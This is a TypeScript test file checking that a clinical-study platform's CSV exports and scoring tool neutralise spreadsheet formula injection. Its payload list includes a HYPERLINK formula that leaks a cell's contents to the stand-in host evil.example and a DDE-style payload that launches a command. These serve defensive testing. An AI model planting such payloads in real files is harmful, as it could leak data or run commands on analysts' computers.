import { parse } from 'csv-parse/sync';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Study } from '../../functions/core/study/study';
import { demoStudy } from '../../functions/demo/demo-study';
import { runDispatch } from '../../functions/use-cases/dispatch';
import { importAndRun } from '../helpers/import-job';
import { createTestContext, linkToken, type TestContext } from '../helpers/test-context';

/**
 * Spreadsheet formula injection (docs/security.md): text that staff, an import or a file supplies,
 * opened by an analyst in Excel or LibreOffice. Each payload below would run as a formula if a CSV
 * cell began with it; every CSV the platform writes must put an apostrophe before such a cell,
 * and leave numbers (negative ones too) numbers.
 */
const payloads = {
  hyperlink: '=HYPERLINK("https://evil.example/?leak="&A2,"Open the results")',
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tab: '\t=1+1',
  cr: '\r=1+1',
};
const TRIGGER = /^[=+\-@\t\r]/;
const NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

/** Every cell of a CSV that a spreadsheet would run as a formula. */
const liveFormulas = (csv: string) => (parse(csv, { relax_column_count: true }) as string[][]).flat().filter((cell) => TRIGGER.test(cell) && !NUMBER.test(cell));
const cells = (csv: string) => (parse(csv, { relax_column_count: true }) as string[][]).flat();

const hostile: Study = {
  ...demoStudy,
  id: 'hostile',
  name: payloads.plus,
  arms: [
    { id: 'mbpm', label: payloads.hyperlink },
    { id: 'waitlist', label: payloads.at },
    { id: 'healthy', label: payloads.tab },
  ],
  protocol: {
    ...demoStudy.protocol,
    timepoints: [
      { ...demoStudy.protocol.timepoints[0]!, label: payloads.hyperlink },
      { ...demoStudy.protocol.timepoints[1]!, label: payloads.cr },
    ],
  },
};

/** PHQ-9 answers summing to `total`, GAD-7 and PEG-3 all answered. */
const answersFor = (total: number) => {
  const answers: Record<string, number> = {};
  let left = total;
  for (let i = 1; i <= 8; i++) {
    answers[`PHQ9_${i}`] = Math.min(3, left);
    left -= answers[`PHQ9_${i}`]!;
  }
  answers.PHQ9_9 = 0;
  for (let i = 1; i <= 7; i++) answers[`GAD7_${i}`] = 1;
  for (let i = 1; i <= 3; i++) answers[`PEG_${i}`] = 5;
  return answers;
};

let t: TestContext;
let analyst: string;
const csvOf = async (path: string) => {
  const response = await t.request('GET', path, { token: analyst });
  expect(response.status, path).toBe(200);
  return response.text();
};

beforeAll(async () => {
  t = await createTestContext({ now: '2026-03-02T10:00:00.000Z', study: hostile });
  // Enrolled from an import (the arms by id; the labels above are what the exports carry), answered at baseline and week 8, scores falling.
  const emails = [t.uniqueEmail('m1'), t.uniqueEmail('m2'), t.uniqueEmail('w1'), t.uniqueEmail('w2')];
  const csv = `email,arm\n${emails[0]},mbpm\n${emails[1]},mbpm\n${emails[2]},waitlist\n${emails[3]},waitlist\n`;
  await importAndRun(t, 'hostile', csv, await t.coordinator());
  await runDispatch(t.deps);
  const plan = [
    [14, 8],
    [10, 7],
    [12, 12],
    [9, 10],
  ] as const;
  for (const [i, email] of emails.entries()) {
    expect((await t.request('POST', `/api/p/${linkToken((await t.inbox(email)).at(-1))}/submit`, { body: { answers: answersFor(plan[i]![0]) } })).status).toBe(200);
  }
  t.clock.set('2026-04-27T08:00:00.000Z');
  await runDispatch(t.deps);
  t.clock.set('2026-04-27T10:00:00.000Z');
  for (const [i, email] of emails.entries()) {
    expect((await t.request('POST', `/api/p/${linkToken((await t.inbox(email)).at(-1))}/submit`, { body: { answers: answersFor(plan[i]![1]) } })).status).toBe(200);
  }
  analyst = await t.signIn({ email: 'analyst@hostile.test', role: 'analyst', studies: ['hostile'] });
}, 120_000);

describe('formula payloads in study text', () => {
  it('come out of no CSV export (long, wide, items, codebook, summary) as a cell a spreadsheet would run', async () => {
    const paths = [...['long', 'wide', 'items', 'codebook'].map((f) => `/api/studies/hostile/export?format=${f}`), '/api/studies/hostile/summary?format=csv'];
    const live = Object.fromEntries(await Promise.all(paths.map(async (path) => [path, liveFormulas(await csvOf(path))] as const)));
    expect(live).toEqual(Object.fromEntries(paths.map((path) => [path, []])));
  });

  it('are still there, neutralised with a leading apostrophe, where they lead a cell (the codebook labels timepoints by their label)', async () => {
    const codebook = cells(await csvOf('/api/studies/hostile/export?format=codebook'));
    expect(codebook).toContain(`'${payloads.hyperlink}: when submitted (UTC, ISO 8601)`);
    expect(codebook).toContain(`'${payloads.cr}: when submitted (UTC, ISO 8601)`);
    // Inside a cell (after other text) a payload is inert and left as written.
    expect(codebook.some((cell) => cell.includes(`mbpm=${payloads.hyperlink}`))).toBe(true);
  });

  it('leave numbers numbers: negative changes in the summary and scores in the exports carry no apostrophe', async () => {
    const summary = parse(await csvOf('/api/studies/hostile/summary?format=csv'), { columns: true }) as Array<Record<string, string>>;
    const phq9 = summary.find((r) => r.instrument === 'phq9' && r.arm === 'mbpm')!;
    // mbpm 14 → 8 and 10 → 7: a mean change of −4.5.
    expect(phq9.mean_change).toBe('-4.5');
    const negatives = summary.flatMap((r) => Object.values(r)).filter((cell) => cell.startsWith('-'));
    expect(negatives.length).toBeGreaterThan(0);
    for (const cell of negatives) expect(Number.isFinite(Number(cell)), cell).toBe(true);
    expect(cells(await csvOf('/api/studies/hostile/export?format=long')).filter((cell) => cell.startsWith("'"))).toEqual([]);
  });
});

describe('formula payloads in a file given to npx timepoint score', () => {
  it('are neutralised in the passed-through columns, while negative numbers stay numbers', () => {
    const dir = mkdtempSync(join(tmpdir(), 'tp-formula-'));
    const file = join(dir, 'peg.csv');
    const rows = Object.values(payloads).map((payload, i) => [payload, '7', '5', '6', i % 2 === 0 ? '-3' : '-0.5']);
    writeFileSync(file, ['note,PEG_1,PEG_2,PEG_3,change', ...rows.map((r) => r.map((c) => `"${c.replaceAll('"', '""')}"`).join(','))].join('\n'));
    const bin = join(import.meta.dirname, '..', '..', 'scripts', 'timepoint.mjs');
    const result = spawnSync(process.execPath, [bin, 'score', '--instrument', 'peg3', '--input', file, '--format', 'csv'], { encoding: 'utf8', timeout: 60_000 });
    expect(result.status, result.stderr).toBe(0);
    expect(liveFormulas(result.stdout)).toEqual([]);
    const out = parse(result.stdout, { columns: true }) as Array<Record<string, string>>;
    expect(out.map((r) => r.note)).toEqual(Object.values(payloads).map((p) => `'${p}`));
    expect(out.map((r) => r.change)).toEqual(['-3', '-0.5', '-3', '-0.5', '-3', '-0.5']);
    expect(out.map((r) => r.peg)).toEqual(Array(6).fill('6'));
  });
});
